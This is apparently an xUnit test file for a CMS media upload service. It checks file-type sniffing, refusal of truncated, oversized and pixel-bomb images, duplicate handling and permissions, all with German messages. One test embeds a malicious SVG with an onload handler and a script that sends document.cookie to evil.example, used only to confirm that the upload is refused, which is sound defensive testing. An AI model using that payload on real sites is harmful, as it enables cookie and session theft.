using System.Text;
using Smile.Content.Security;
using Smile.Media.Stores;

namespace Smile.Media.Tests;

/// <summary>Uploads are recognised by their bytes; bad files are refused with a German message and leave nothing behind.</summary>
public sealed class UploadTests(TestDatabases databases)
{
    public static TheoryData<string> Providers => TestDatabases.Providers;

    [Theory, MemberData(nameof(Providers))]
    public async Task A_PNG_named_jpg_is_stored_as_PNG_and_its_name_corrected(string provider)
    {
        await using var db = await databases.CreateAsync(provider);
        var media = new MediaTestKit(db);

        var result = await media.UploadAsync(TestImages.Png(400, 300), "hafen.jpg");

        Assert.True(result.Created);
        Assert.Equal("image/png", result.Asset.ContentType);
        Assert.Equal("hafen.png", result.Asset.FileName);
        Assert.Contains("ist aber ein PNG", result.Notice, StringComparison.Ordinal);
        Assert.Equal((400, 300), (result.Asset.Width, result.Asset.Height));
        var stored = await media.Catalog.FindAsync(result.Asset.Id);
        Assert.Equal("image/png", stored!.ContentType);
        Assert.Equal(Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(TestImages.Png(400, 300))), stored.Id);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task A_truncated_JPEG_is_refused_with_a_clear_message_and_nothing_is_stored(string provider)
    {
        await using var db = await databases.CreateAsync(provider);
        var media = new MediaTestKit(db);
        var jpeg = TestImages.Jpeg(800, 600);

        var error = await Assert.ThrowsAsync<MediaUploadException>(() => media.UploadAsync(jpeg[..(jpeg.Length / 2)], "abgeschnitten.jpg"));

        Assert.Contains("„abgeschnitten.jpg“ ist beschädigt oder unvollständig", error.Message, StringComparison.Ordinal);
        Assert.Equal(0, await media.RowCountAsync());
        Assert.Equal(0, media.FileCount);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task A_400_megapixel_PNG_is_refused_from_its_header_without_decoding(string provider)
    {
        await using var db = await databases.CreateAsync(provider);
        var media = new MediaTestKit(db);
        var bomb = TestImages.PngBomb();
        Assert.True(bomb.Length < 200_000, $"the bomb is {bomb.Length} bytes; it should be tiny");

        var error = await Assert.ThrowsAsync<MediaUploadException>(() => media.UploadAsync(bomb, "bombe.png"));

        // The message can only come from the header check: the file holds 200 of 20,000 rows, so decoding would fail as truncated.
        Assert.Equal("„bombe.png“ ist 20.000 × 20.000 Pixel groß (400 Megapixel); erlaubt sind höchstens 50 Megapixel. Bitte verkleinern Sie das Bild vor dem Hochladen.", error.Message);
        Assert.Equal(0, await media.RowCountAsync());
        Assert.Equal(0, media.FileCount);
    }

    [Fact]
    public async Task An_SVG_with_a_script_and_an_onload_handler_is_refused_naming_the_reason()
    {
        await using var db = await databases.CreateAsync(TestDatabases.Sqlite);
        var media = new MediaTestKit(db);
        var svg = """<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch('//evil.example/'+document.cookie)</script><rect width="10" height="10"/></svg>""";

        var error = await Assert.ThrowsAsync<MediaUploadException>(() => media.UploadAsync(Encoding.UTF8.GetBytes(svg), "logo.png"));

        Assert.Contains("„logo.png“ ist eine SVG-Grafik. SVG wird nicht angenommen, weil eine SVG-Datei Skripte", error.Message, StringComparison.Ordinal);
        Assert.Equal(0, await media.RowCountAsync());
    }

    [Fact]
    public async Task A_file_of_unknown_type_is_refused_listing_what_is_allowed()
    {
        await using var db = await databases.CreateAsync(TestDatabases.Sqlite);
        var media = new MediaTestKit(db);

        var error = await Assert.ThrowsAsync<MediaUploadException>(() => media.UploadAsync("MZ\x90\0 not really a program"u8.ToArray(), "bild.jpg"));

        Assert.StartsWith("Das Format von „bild.jpg“ wird nicht unterstützt. Erlaubt sind Bilder (JPEG, PNG, GIF, WebP, AVIF), PDF", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_file_larger_than_the_limit_is_refused_and_nothing_is_stored()
    {
        await using var db = await databases.CreateAsync(TestDatabases.Sqlite);
        var media = new MediaTestKit(db, new MediaOptions { MaxUploadBytes = 1024 * 1024 });

        var error = await Assert.ThrowsAsync<MediaUploadException>(() => media.UploadAsync(new byte[(1024 * 1024) + 1], "gross.pdf"));

        Assert.Equal("„gross.pdf“ ist größer als die erlaubten 1 MB.", error.Message);
        Assert.Equal(0, media.FileCount);
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task The_same_file_uploaded_twice_is_one_asset(string provider)
    {
        await using var db = await databases.CreateAsync(provider);
        var media = new MediaTestKit(db);
        var jpeg = TestImages.Jpeg(640, 480);

        var first = await media.UploadAsync(jpeg, "erste.jpg");
        var second = await media.UploadAsync(jpeg, "zweite.jpeg");

        Assert.True(first.Created);
        Assert.False(second.Created);
        Assert.Equal(first.Asset.Id, second.Asset.Id);
        Assert.Equal("Diese Datei ist schon in der Mediathek (als „erste.jpg“).", second.Notice);
        Assert.Equal(1, await media.RowCountAsync());
    }

    [Theory]
    [InlineData("webp", "image/webp")]
    [InlineData("gif", "image/gif")]
    [InlineData("avif", "image/avif")]
    public async Task WebP_GIF_and_AVIF_images_are_accepted_with_their_size(string format, string contentType)
    {
        await using var db = await databases.CreateAsync(TestDatabases.Sqlite);
        var media = new MediaTestKit(db);
        using var picture = TestImages.Picture(320, 200);
        var bytes = format switch
        {
            "webp" => picture.WebpsaveBuffer(),
            "gif" => picture.GifsaveBuffer(),
            _ => picture.HeifsaveBuffer(compression: NetVips.Enums.ForeignHeifCompression.Av1),
        };

        var result = await media.UploadAsync(bytes, "bild.jpg");

        Assert.Equal((contentType, "bild." + format, 320, 200), (result.Asset.ContentType, result.Asset.FileName, result.Asset.Width!.Value, result.Asset.Height!.Value));
    }

    [Fact]
    public async Task A_PDF_and_an_MP4_are_stored_with_their_detected_types()
    {
        await using var db = await databases.CreateAsync(TestDatabases.Sqlite);
        var media = new MediaTestKit(db);
        byte[] mp4 = [0, 0, 0, 0x18, .. "ftypisom"u8.ToArray(), 0, 0, 2, 0, .. "isomiso2"u8.ToArray(), 0, 0, 0, 8, .. "free"u8.ToArray()];

        var pdf = await media.UploadAsync(Encoding.ASCII.GetBytes("%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n"), "Datenschutz");
        var video = await media.UploadAsync(mp4, "eroeffnung.mov");

        Assert.Equal(("application/pdf", "Datenschutz.pdf", (int?)null), (pdf.Asset.ContentType, pdf.Asset.FileName, pdf.Asset.Width));
        Assert.Equal(("video/mp4", "eroeffnung.mp4"), (video.Asset.ContentType, video.Asset.FileName));
        Assert.NotNull(await media.Store.OpenReadAsync(MediaKeys.Original(pdf.Asset.Id), default));
    }

    [Fact]
    public async Task Without_the_permission_to_manage_media_an_upload_is_refused()
    {
        await using var db = await databases.CreateAsync(TestDatabases.Sqlite);
        var media = new MediaTestKit(db);
        var reader = new Actor("reader", new HashSet<Permission> { Permission.ViewContent, Permission.EditOwnContent });

        var error = await Assert.ThrowsAsync<PermissionDeniedException>(() => media.UploadAsync(TestImages.Jpeg(100, 100), "foto.jpg", reader));

        Assert.Contains("Medien verwalten", error.Message, StringComparison.Ordinal);
        Assert.Equal(0, await media.RowCountAsync());
    }

    [Theory, MemberData(nameof(Providers))]
    public async Task A_focal_point_is_kept_and_one_outside_the_image_is_refused(string provider)
    {
        await using var db = await databases.CreateAsync(provider);
        var media = new MediaTestKit(db);
        var asset = (await media.UploadAsync(TestImages.Jpeg(300, 200), "fokus.jpg")).Asset;

        await media.Library.SetFocalPointAsync(asset.Id, 0.25, 0.75, MediaTestKit.Editor);
        var error = await Assert.ThrowsAsync<MediaUploadException>(() => media.Library.SetFocalPointAsync(asset.Id, 1.5, 0.5, MediaTestKit.Editor));

        var stored = await media.Catalog.FindAsync(asset.Id);
        Assert.Equal((0.25, 0.75), (stored!.FocalX, stored.FocalY));
        Assert.Contains("zwischen 0 und 1", error.Message, StringComparison.Ordinal);
    }
}
